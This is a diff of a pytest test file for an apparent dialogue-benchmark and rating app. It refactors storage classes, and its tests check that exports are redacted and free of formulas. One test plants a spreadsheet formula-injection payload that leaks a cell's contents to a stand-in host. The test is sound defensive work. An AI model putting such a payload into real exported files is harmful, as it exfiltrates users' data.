@@ -15,7 +15,7 @@ import pytest
 from streamlit.testing.v1 import AppTest
 
 from fixtures.fake_openai import FakeOpenAI
-from koed_core.db import Store
+from koed_core.db import Runs, Store
 from koed_core.dialogues.dataset import load_dataset
 from koed_core.dialogues.export import to_csv
 from koed_core.models.backends import make_client
@@ -27,7 +27,7 @@ from koed_core.models.runs import run_benchmark
 from koed_core.paths import SAMPLE_FILE
 from koed_core.rating import accounts
 from koed_core.rating.report import export_rows, rows_csv
-from koed_core.rating.studies import RatingStore
+from koed_core.rating.studies import StudyRules
 from koed_core.results.paper_export import export_bundle
 
 ROOT = Path(__file__).resolve().parents[1]
@@ -61,7 +61,9 @@ def _everything(at: AppTest) -> str:
 @pytest.mark.slow
 def test_results_pages_reveal_nothing_of_an_open_study(site: Path) -> None:
     texts = set(
-        Store(site).response_texts(list(Store(site).responses(LISTENER_RUN)["id"])).values()
+        Runs(Store(site))
+        .response_texts(list(Runs(Store(site)).responses(LISTENER_RUN)["id"]))
+        .values()
     )
     for who in (None, "mina"):
         agreement = _as(who, "pages/results/agreement.py")
@@ -88,12 +90,12 @@ def test_results_pages_reveal_nothing_of_an_open_study(site: Path) -> None:
 
 
 def test_closing_a_study_publishes_numbers_but_never_words(site: Path) -> None:
-    RatingStore(Store(site)).close(1)
+    StudyRules(Store(site)).close(1)
     rater = _as("mina", "pages/results/agreement.py")
     # the agreement table and the judge's gap minus the people's: numbers, no rater's words
     assert not rater.exception and len(rater.dataframe) == 2
     assert "alice note" not in _everything(rater)
-    assert RatingStore(Store(site)).next_item(1, "alice") is None  # no new items once closed
+    assert StudyRules(Store(site)).next_item(1, "alice") is None  # no new items once closed
 
 
 # 2. Paid models need an admin ----------------------------------------------------------
@@ -181,7 +183,7 @@ def test_broken_accounts_file_fails_closed(
 @pytest.mark.slow
 def test_no_csv_cell_starts_a_formula(site: Path, tmp_path: Path) -> None:
     store = Store(site)
-    ratings = RatingStore(store)
+    ratings = StudyRules(store)
     attack = '=HYPERLINK("http://evil.invalid/?leak="&A1,"click")'
     store.db.execute("update ratings set comment = ? where username = 'bob'", [attack])
     store.db.conn.commit()
@@ -220,7 +222,9 @@ def test_credentials_in_a_base_url_never_leave(tmp_path: Path, fake_openai: Fake
         dataset.sha256,
         RunRequest(spec.name, langs=("en",), protocol="direct", max_retries=0, timeout_s=2),
     )
-    stored = str(store.run_config(report.run_id)) + store.responses(report.run_id).to_csv()
+    stored = (
+        str(Runs(store).run_config(report.run_id)) + Runs(store).responses(report.run_id).to_csv()
+    )
     assert "hunter2" not in stored and "SECRETKEY" not in stored and "sk-test" not in stored
     out = tmp_path / "out"
     export_bundle(store, out)
@@ -248,7 +252,7 @@ def test_a_0_1_0_url_with_credentials_is_redacted_on_upgrade(tmp_path: Path) -> 
             "'http://u:pw@127.0.0.1:9/v1?api_key=XYZ') where id = ?",
             [LISTENER_RUN],
         )
-    config, _ = Store(db).run_config(LISTENER_RUN) or ({}, None)
+    config, _ = Runs(Store(db)).run_config(LISTENER_RUN) or ({}, None)
     assert config["base_url"] == "http://***@127.0.0.1:9/v1?api_key=%2A%2A%2A"
 
 
